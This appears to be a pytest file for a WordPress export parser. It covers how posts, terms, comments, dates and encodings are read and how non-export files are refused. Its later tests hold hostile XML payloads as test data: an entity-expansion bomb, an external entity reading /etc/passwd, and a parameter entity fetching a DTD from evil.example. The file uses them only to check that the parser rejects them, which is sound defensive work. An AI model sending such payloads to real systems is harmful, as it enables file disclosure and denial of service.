"""Exports as they really are, and files that are none: what is read, what is refused, and where."""

from __future__ import annotations

import gzip
import itertools
import tracemalloc
import zipfile
from zoneinfo import ZoneInfo

import pytest

from posts.wordpress import wxr
from posts.wordpress.items import Author, Item, Site, Term, plain, read_export
from posts.wordpress.streams import Document, ExportError, documents, export_files
from tests.exports import SITE, SPACES, attachment, category, comment, export, item

UTC = ZoneInfo("UTC")


def read(tmp_path, text, *, zone=UTC, mended=None):
    path = tmp_path / "export.xml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    site, found = Site(), []
    for document in documents([path]):
        found += read_export(document, site, zone)
        if mended is not None:
            mended.append(document.mended_bytes)
    return site, found


def items_of(tmp_path, text, **others):
    return [one for one in read(tmp_path, text, **others)[1] if isinstance(one, Item)]


def refused(tmp_path, text):
    with pytest.raises(ExportError) as caught:
        read(tmp_path, text)
    return caught.value


def test_an_export_gives_its_site_authors_terms_and_items(tmp_path):
    text = export(
        item(7, title="The quay", terms=[("category", "news", "News"), ("post_tag", "harbour", "Harbour")]),
        head=category("news", "News &amp; views", parent="all", number=3),
    )
    site, (author, term, post) = read(tmp_path, text)
    assert (site.title, site.key, site.version) == ("The Old Dispatch", "old.quillhaven.example", "1.2")
    assert author == Author("oriel", "Oriel Vantongeren", "oriel@quillhaven.example")
    assert term == Term("category", "news", "News & views", "all", "", 3)
    assert (post.number, post.title, post.creator, post.slug) == (7, "The quay", "oriel", "the-quay")
    assert [(one.taxonomy, one.slug, one.name) for one in post.terms] == [
        ("category", "news", "News"),
        ("post_tag", "harbour", "Harbour"),
    ]
    assert post.published_at.isoformat() == "2012-05-04T12:00:00+00:00"


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace("http://wordpress.org", "https://wordpress.org").replace(
            "http://purl", "https://purl"
        ),
        lambda text: text.replace("/1.2/", "/1.0/"),
        lambda text: text.replace("wp:", "ns1:").replace("xmlns:wp", "xmlns:ns1"),
        lambda text: text.replace(SPACES, ""),
        lambda text: "\n\n  " + text,
        lambda text: "\ufeff" + text,
    ],
)
def test_names_are_told_whatever_the_head_of_the_file_looks_like(tmp_path, change):
    text = export(item(7, title="The quay", body="Words <b>here</b>."))
    (post,) = items_of(tmp_path, change(text))
    assert (post.number, post.content, post.type) == (7, "Words <b>here</b>.", "post")


def test_an_end_of_cdata_that_was_split_is_joined(tmp_path):
    (post,) = items_of(tmp_path, export(item(1, body="if (a[b[0]]> 1) { x ]]> y }")))
    assert post.content == "if (a[b[0]]> 1) { x ]]> y }"


def test_stray_bytes_are_read_as_windows_1252_and_counted(tmp_path):
    text = (
        export(item(1, body="It~s caf# \u2014 fine")).encode().replace(b"~", b"\x92").replace(b"#", b"\xe9")
    )
    mended = []
    (post,) = items_of(tmp_path, text, mended=mended)
    assert (post.content, mended) == ("It\u2019s café \u2014 fine", [2])


def test_a_file_in_latin_1_says_so_and_is_believed(tmp_path):
    text = export(item(1, body="déjà vu")).replace("UTF-8", "ISO-8859-1").encode("latin-1")
    assert items_of(tmp_path, text)[0].content == "déjà vu"


def test_characters_that_xml_forbids_go(tmp_path):
    (post,) = items_of(tmp_path, export(item(1, title="A\x08B", body="one\x0btwo\x00 three")))
    assert (post.title, post.content) == ("AB", "onetwo three")


def test_names_of_characters_outside_of_cdata_are_known(tmp_path):
    text = export(item(1)).replace("<![CDATA[A post]]>", "Caf&eacute;&nbsp;&hellip; &made-up;")
    assert items_of(tmp_path, text)[0].title == "Café … &made-up;"


def test_what_is_missing_is_empty(tmp_path):
    (post,) = items_of(tmp_path, export("<item><title>Only a title</title><wp:x/></item>"))
    assert (post.number, post.title, post.type, post.status) == (None, "Only a title", "post", "publish")
    assert (post.published_at, post.content, post.terms, post.comments) == (None, "", (), ())
    assert post.key  # from what it says, the same at every run
    assert items_of(tmp_path, export("<item><title>Only a title</title></item>"))[0].key == post.key


@pytest.mark.parametrize(
    "date",
    ["0000-00-00 00:00:00", "", "2012-02-31 10:00:00", "0022-01-01 10:00:00", "9999-12-31 23:59:59", "soon"],
)
def test_a_date_of_zero_is_none(tmp_path, date):
    assert items_of(tmp_path, export(item(1, date=date)))[0].published_at is None


@pytest.mark.parametrize("public_on", ["", "<pubDate>Thu, 01 Jan 1970 00:00:00 +0000</pubDate>"])
def test_a_local_date_is_taken_where_the_one_in_utc_is_zero(tmp_path, public_on):
    text = export(item(1, date="")).replace(
        "<wp:post_name>",
        f"{public_on}<wp:post_date>2012-05-04 20:00:00</wp:post_date>"
        "<wp:post_date_gmt>0000-00-00 00:00:00</wp:post_date_gmt><wp:post_name>",
    )
    found = items_of(tmp_path, text, zone=ZoneInfo("America/Toronto"))
    assert found[0].published_at.isoformat() == "2012-05-05T00:00:00+00:00"


def test_every_field_of_the_same_key_is_kept(tmp_path):
    (post,) = items_of(tmp_path, export(item(1, meta=[("source", "a"), ("source", "b"), ("other", "c")])))
    assert post.meta == (("source", "a"), ("source", "b"), ("other", "c"))
    assert post.meta_value("source") == "a"


def test_comments_keep_their_threads_and_their_own_fields(tmp_path):
    (post,) = items_of(
        tmp_path, export(item(1, comments=comment(5, "First.") + comment(6, "Reply.", parent=5)))
    )
    assert [(one.id, one.said["parent"], one.said["content"]) for one in post.comments] == [
        ("5", "0", "First."),
        ("6", "5", "Reply."),
    ]
    assert post.comments[0].said["meta"] == [["k", "v"]]


def test_terms_that_version_1_0_writes_twice_are_one(tmp_path):
    text = export(
        item(
            1,
            more='<category>News</category><category domain="category" nicename="news">News</category>'
            '<category domain="tag">Quay</category><category domain="tag" nicename="quay">Quay</category>',
        )
    )
    assert [(one.taxonomy, one.slug) for one in items_of(tmp_path, text)[0].terms] == [
        ("category", "news"),
        ("post_tag", "quay"),
    ]


def test_an_attachment_without_a_parent_says_where_its_file_is(tmp_path):
    (one,) = items_of(tmp_path, export(attachment(9, "2012/05/quay.jpg", alt="The quay")))
    assert (one.type, one.parent, one.file_url) == (
        "attachment",
        0,
        f"{SITE}/wp-content/uploads/2012/05/quay.jpg",
    )


def test_titles_are_words(tmp_path):
    assert plain("Tom &amp;amp; <em>Jerry</em>\n &#8217;s  2 < 3") == "Tom & Jerry ’s 2 < 3"


def test_packed_files_and_folders_are_read(tmp_path):
    text = export(item(1)).encode()
    packed, archive = tmp_path / "a.xml.gz", tmp_path / "b.zip"
    packed.write_bytes(gzip.compress(text))
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("one.xml", text)
        file.writestr("two.xml", export(item(2)))
        file.writestr("notes.txt", "not an export")
    numbers = [
        one.number
        for document in documents([packed, archive])
        for one in read_export(document, Site(), UTC)
        if isinstance(one, Item)
    ]
    assert numbers == [1, 1, 2]
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder/x.xml").write_bytes(text)
    assert export_files([tmp_path / "folder"]) == [tmp_path / "folder/x.xml"]


# Files that are refused ------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is empty"),
        (b"%PDF-1.7 ...", "this is a PDF"),
        (b'{"posts": []}', "this is JSON"),
        (b"-- MySQL dump", "dump of a database"),
        (b"\x89PNG\r\n", "this is a picture"),
        (b"just words", "no XML file"),
        (b"<html><body>Not found</body></html>", "begins with <html>"),
        (b"<rss version='2.0'><channel><item><title>x</title></item></channel></rss>", "this is a feed"),
        (b"<?xml version='1.0' encoding='klingon'?><rss/>", "klingon"),
        (b"PK\x03\x04 broken", "cannot be read"),
        (b"\x1f\x8b\x08\x00 broken", "cannot be read"),
    ],
)
def test_a_file_of_another_kind_is_refused_with_what_it_is(tmp_path, data, words):
    assert words in str(refused(tmp_path, data))


def test_malformed_xml_is_refused_with_its_place(tmp_path):
    text = export(item(1), "<item><title>Tom & Jerry</title></item>")
    error = refused(tmp_path, text)
    line = text[: text.index("Tom &")].count("\n") + 1
    assert (error.line, error.column > 1, error.name) == (line, True, "export.xml")
    assert "not well-formed" in error.why


def test_a_file_that_was_cut_off_is_refused(tmp_path):
    assert "cut off" in str(refused(tmp_path, export(item(1))[:-30]))


BOMB = "<!DOCTYPE rss [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
    f"<!ENTITY {name} '{('&' + before + ';') * 10}'>" for before, name in itertools.pairwise("abcdefghi")
)


@pytest.mark.parametrize(
    "declared",
    [
        BOMB + "]>",
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>",
        f"<!DOCTYPE rss [<!ENTITY a '{'a' * 5000}'>]>",
    ],
)
def test_entities_that_could_grow_or_reach_out_are_refused(tmp_path, declared):
    text = export(item(1)).replace("<rss", f"{declared}\n<rss", 1).replace("A post", "&i; &x; &a;")
    error = refused(tmp_path, text)
    assert ("entity of its own" in error.why, error.line) == (True, 2)


def test_a_document_type_without_entities_is_no_harm(tmp_path):
    text = export(item(1)).replace("<rss", "<!DOCTYPE rss SYSTEM 'http://evil.example/rss.dtd'>\n<rss", 1)
    assert items_of(tmp_path, text)[0].number == 1


def endless(head, piece, taken):
    yield head
    for _ in range(1_000_000):  # 60 GB: nobody reads that far
        taken.append(len(piece))
        yield piece


@pytest.mark.parametrize(
    ("begin", "words"),
    [
        ("<item><content:encoded><![CDATA[", "longer than any text"),
        ("<item><content:encoded>", "longer than any text"),
        ("<item><title x='", "has no end"),
        ("<!-- ", "has no end"),
        ("<item><wp:", "has no end"),
    ],
)
def test_a_text_without_end_is_refused_early_and_takes_no_memory(begin, words):
    head, taken = export().partition("</channel>")[0] + begin, []
    document = Document("export.xml", endless(head, "a" * 60_000, taken))
    tracemalloc.start()
    with pytest.raises(ExportError, match=words) as caught:
        list(wxr.read_records(document))
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert caught.value.line > 0
    assert (sum(taken) < 50_000_000, most < 120_000_000) == (True, True)


@pytest.mark.parametrize("piece", ["<a>", "<item>" + "<wp:comment>" * 60])
def test_elements_in_elements_without_end_are_refused(piece):
    document = Document("export.xml", iter([export().partition("</channel>")[0], piece * 1000]))
    with pytest.raises(ExportError, match="deep"):
        list(wxr.read_records(document))


def test_records_without_end_are_refused(monkeypatch):
    monkeypatch.setattr(wxr, "MOST_ELEMENTS", 100)
    document = Document("export.xml", iter([export().partition("</channel>")[0] + "<item>" + "<a/>" * 200]))
    with pytest.raises(ExportError, match="more than 100 elements"):
        list(wxr.read_records(document))
